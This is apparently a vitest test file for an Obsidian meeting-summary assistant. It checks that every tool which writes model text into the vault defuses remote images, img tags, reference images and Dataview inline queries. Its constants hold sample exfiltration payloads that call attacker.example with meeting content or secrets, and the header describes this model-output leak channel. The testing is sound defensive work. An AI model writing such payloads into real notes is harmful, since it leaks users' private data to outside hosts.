/**
 * S17 (hostile review 6): model text written into the vault must not load anything from the web
 * when Obsidian shows the note — a remote image URL (`![](https://attacker.example/p.png?q=<meeting
 * content>)`, `<img src>`, a reference-style image) is an exfiltration channel. Every write tool
 * that puts model text into a note defuses it (core `defuseRemoteContent`) and says so in its
 * answer: write_summary (the draft), write_context (the context note), write_projectfile (a
 * project file; what the file already held stays), request_workflow_change (the prompt the user
 * approves and the daemon saves), in both profiles. Real files on a temp copy of the sample vault.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createApprovalGatedTools } from '../src/approval/approval-gated-tools.js';
import type { WorkflowRequest } from '../src/approval/approval-port.js';
import { runTool } from '../src/test-support/run-tool.js';
import { MEETINGS, sampleSession, type TestSession } from '../src/test-support/sample-vault.js';
import { toolDefinitions } from '../src/tool-definitions.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

const CONTEXT = 'Assistant/2026-03-10 Remote control functional design.md';
const IMAGE = '![](https://attacker.example/p.png?q=rubber-casing-12.50EUR)';
const TAG = '<img src="https://attacker.example/i.png?d=secret">';
const REF = '![x][leak]\n\n[leak]: https://attacker.example/r.png?d=ref';

/** No remote image, remote reference definition or loading tag left in `text`. */
function expectInert(text: string): void {
  expect(text).not.toMatch(/!\[[^\]]*\]\(https:/);
  expect(text).not.toMatch(/<img/i);
  expect(text).not.toMatch(/^\[leak\]:/m);
  expect(text).toContain('attacker.example'); // still readable: the user sees what the model wrote
}

/** The granular tools with request_workflow_change, whose submitted requests land in `queued`. */
function workflowTools(session: TestSession) {
  const queued: WorkflowRequest[] = [];
  const defs = toolDefinitions(session.session, {
    approvalGated: createApprovalGatedTools(session.session, {
      prompt: { request: async () => 'denied' },
      workflow: {
        submit: (r) => {
          queued.push(r);
          return 'requested';
        },
      },
    }),
  });
  return { defs, queued };
}

describe('S17: model-written remote images and loading HTML are defused on every write', () => {
  it('write_summary: the draft holds plain links and text; the answer says what was defused', async () => {
    t = await sampleSession(MEETINGS.functional);
    const out = await runTool(t.session, 'write_summary', {
      content: `## Summary\n- We met (L7) ${IMAGE}\n${TAG}\n${REF}\n\n## Decisions\n- Rubber (L12)\n`,
      replace_file: true,
    });
    expect(out).toMatch(/defused 3 items Obsidian would load/);
    expectInert(t.session.summaryDraft.read() ?? '');
    expect(t.session.summaryDraft.read()).toContain(
      '[image: attacker.example/p.png](https://attacker.example/p.png?q=rubber-casing-12.50EUR)',
    );
  });

  it('write_summary: a reference definition appended after its image is still caught', async () => {
    t = await sampleSession(MEETINGS.functional);
    await runTool(t.session, 'write_summary', {
      content: '## Summary\n- see ![x][leak]',
      replace_file: true,
    });
    const out = await runTool(t.session, 'write_summary', {
      content: '[leak]: https://attacker.example/r.png?d=ref',
    });
    expect(out).toMatch(/defused 1 item .*reference to a remote image/);
    expectInert(t.session.summaryDraft.read() ?? '');
  });

  it('write_context: the context note on disk holds no remote image or tag', async () => {
    t = await sampleSession(MEETINGS.functional);
    const out = await runTool(t.session, 'write_context', { content: `notes ${IMAGE}\n${TAG}\n${REF}` });
    expect(out).toMatch(/defused 3 items/);
    expectInert(await readFile(path.join(t.root, CONTEXT), 'utf8'));
  });

  it('write_context through the compact profile apply_changes: defused too', async () => {
    t = await sampleSession(MEETINGS.functional);
    const defs = toolDefinitions(t.session, { profile: 'compact' });
    const apply = defs.find((d) => d.name === 'apply_changes');
    const out = await apply?.execute({ ops: [{ op: 'write_context', content: `notes ${IMAGE}` }] });
    expect(out).toMatch(/defused 1 item/);
    expectInert(
      `${await readFile(path.join(t.root, CONTEXT), 'utf8')}\n${TAG.replace('<img', '&lt;img')} [leak]`,
    );
  });

  it("write_projectfile: the model's remote images are defused, the file's own ones stay", async () => {
    t = await sampleSession(MEETINGS.functional);
    const rel = 'Projects/remote-control/decisions.md';
    const abs = path.join(t.root, rel);
    const { appendFile } = await import('node:fs/promises');
    await appendFile(abs, '\nTeam logo: ![](https://corp.example/logo.png)\n');
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'decisions.md',
      content: `- Rubber casing ${IMAGE}\n${TAG}`,
    });
    expect(out).toMatch(/defused 2 items/);
    const text = await readFile(abs, 'utf8');
    expect(text).toContain('![](https://corp.example/logo.png)');
    expect(text).not.toContain(IMAGE);
    expect(text).toContain('&lt;img src=');
  });

  it('request_workflow_change: the prompt the user approves and the daemon saves is defused', async () => {
    t = await sampleSession(MEETINGS.functional);
    const { defs, queued } = workflowTools(t);
    const out = await defs
      .find((d) => d.name === 'request_workflow_change')
      ?.execute({ intention: 'Add a logo', prompt: `Put this in the template: ${IMAGE}\n${TAG}` });
    expect(out).toMatch(/^requested: .*defused 2 items/s);
    expectInert(`${queued[0]?.prompt ?? ''}`);
  });
});

describe('S17 follow-up: Dataview inline queries in model text are defused on every write', () => {
  const JS = '`$= dv.el("img", "", {attr: {src: "https://attacker.example/q?d=" + dv.current().file.name}})`';
  const DQL = '`= "![](https://attacker.example/p.png?d=" + [[Secret]].pay + ")"`';
  /** No inline code span or code block left that starts with a Dataview prefix. */
  function expectNoQuery(text: string): void {
    expect(text).not.toMatch(/`\s*\$?=/);
    expect(text).toContain('\\$= dv.el');
  }

  it('write_summary, write_context, write_projectfile and the compact apply_changes', async () => {
    t = await sampleSession(MEETINGS.functional);
    const summary = await runTool(t.session, 'write_summary', {
      content: `## Summary\n- We met ${JS} ${DQL}\n`,
      replace_file: true,
    });
    expect(summary).toMatch(/defused 2 items .*2 Dataview inline queries/);
    expectNoQuery(t.session.summaryDraft.read() ?? '');
    expect(await runTool(t.session, 'write_context', { content: `notes ${JS}` })).toMatch(/defused 1 item/);
    expectNoQuery(await readFile(path.join(t.root, CONTEXT), 'utf8'));
    const rel = 'Projects/remote-control/decisions.md';
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'decisions.md',
      content: `- Rubber casing ${JS}\n\`\`\`\n$= dv.view("x")\n\`\`\``,
    });
    expect(out).toMatch(/defused 2 items/);
    expectNoQuery(await readFile(path.join(t.root, rel), 'utf8'));
    const apply = toolDefinitions(t.session, { profile: 'compact' }).find((d) => d.name === 'apply_changes');
    const compact = await apply?.execute({ ops: [{ op: 'write_context', content: `more ${JS}` }] });
    expect(compact).toMatch(/defused 1 item/);
    expectNoQuery(await readFile(path.join(t.root, CONTEXT), 'utf8'));
  });

  it('request_workflow_change: the prompt the user approves holds no runnable inline query', async () => {
    t = await sampleSession(MEETINGS.functional);
    const { defs, queued } = workflowTools(t);
    const out = await defs
      .find((d) => d.name === 'request_workflow_change')
      ?.execute({ intention: 'Show the file name', prompt: `Put this in the template: ${JS}` });
    expect(out).toMatch(/^requested: .*defused 1 item/s);
    expectNoQuery(queued[0]?.prompt ?? '');
  });
});
